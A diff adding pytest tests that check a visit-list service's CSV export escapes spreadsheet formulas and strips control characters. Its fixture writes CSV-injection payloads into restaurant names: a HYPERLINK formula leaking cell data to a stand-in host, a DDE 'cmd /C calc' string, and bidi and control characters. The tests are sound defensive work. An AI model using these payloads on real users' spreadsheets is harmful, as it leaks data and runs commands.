@@ -99,3 +99,64 @@ def test_the_lists_evaluation_is_served_per_week_and_pooled(api, pipeline):
     assert [w["scope"] for w in answer["weeks"]] == sorted(
         stored.loc[stored["scope"] != "pooled", "scope"], reverse=True
     )
+
+
+@pytest.fixture
+def hostile_names(pipeline, lists):
+    """The newest list's first five places renamed as an attacker would (restored after the test)."""
+    import psycopg2
+
+    week = lists["week"].max()
+    names = {
+        1: '=HYPERLINK("http://x.example/?"&A1,"click")',
+        2: "@SUM(1+1)*cmd|' /C calc'!A0",
+        3: "+1+1",
+        4: "-2+3 BAR\x1b[31m\x07",
+        5: "CAFE\u202eRAB\r\nNEXT\x7fLINE\tTAB",
+    }
+    with psycopg2.connect(pipeline["url"]) as connection, connection.cursor() as cursor:
+        for rank, name in names.items():
+            cursor.execute("UPDATE food.visit_list SET dba_name = %s WHERE week = %s AND rank = %s", (name, week, rank))
+    yield week, names
+    with psycopg2.connect(pipeline["url"]) as connection, connection.cursor() as cursor:
+        for rank in names:
+            original = lists[(lists["week"] == week) & (lists["rank"] == rank)]["dba_name"].iloc[0]
+            cursor.execute(
+                "UPDATE food.visit_list SET dba_name = %s WHERE week = %s AND rank = %s", (original, week, rank)
+            )
+
+
+@pytest.mark.faults
+def test_route_sheet_cells_never_run_as_formulas_and_carry_no_control_characters(api, hostile_names):
+    """Names such as =HYPERLINK(...), @SUM(...), +1+1 and control characters went into visits.csv as they were."""
+    import re
+
+    week, names = hostile_names
+    text = get(api, f"/v1/lists/{week:%Y-%m-%d}/visits.csv").text
+    table = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
+    shown = table["dba_name"].head(5).tolist()
+    assert shown[0] == "'" + names[1] and shown[1] == "'" + names[2] and shown[2] == "'+1+1"
+    assert shown[3].startswith("'-2+3 BAR") and shown[4] == "CAFE RAB  NEXT LINE TAB"
+    for cell in table.to_numpy().ravel():
+        assert not re.search(r"[\x00-\x1f\x7f\u202a-\u202e\u2066-\u2069]", cell)
+        assert not cell.startswith(("=", "+", "-", "@")) or cell.lstrip("-").replace(".", "").isdigit()
+    parquet = pq.read_table(io.BytesIO(get(api, f"/v1/lists/{week:%Y-%m-%d}/visits.parquet").content)).to_pandas()
+    assert not parquet["dba_name"].str.contains(r"[\x00-\x1f\x7f\u202a-\u202e]").any()
+
+
+def test_a_list_downloads_in_one_csv_format_from_the_api_and_the_dashboard(api, lists, pipeline):
+    """The API's CSV had reasons as JSON and booleans t/f; the dashboard's plain reasons, True/False, other columns."""
+    from service.db import ensure_reader
+    from service.visit_list import route_csv
+
+    week = lists["week"].max()
+    from_api = get(api, f"/v1/lists/{week:%Y-%m-%d}/visits.csv").text
+    from_dashboard = route_csv(ensure_reader(pipeline["url"]), week, [], 0.0, "")
+    assert from_dashboard.splitlines() == from_api.splitlines()
+    table = pd.read_csv(io.StringIO(from_api), dtype=str, keep_default_na=False)
+    assert set(table["on_map"]) <= {"true", "false"}
+    reasons = table.loc[table["reasons"] != "", "reasons"]
+    assert len(reasons) and not reasons.str.startswith(("[", "{", "'[")).any()  # words, not JSON
+    zip_code = lists.loc[lists["week"] == week, "zip"].value_counts().index[0]
+    some = pd.read_csv(io.StringIO(route_csv(ensure_reader(pipeline["url"]), week, [], 0.0, zip_code)), dtype=str)
+    assert len(some) == int(((lists["week"] == week) & (lists["zip"] == zip_code)).sum())
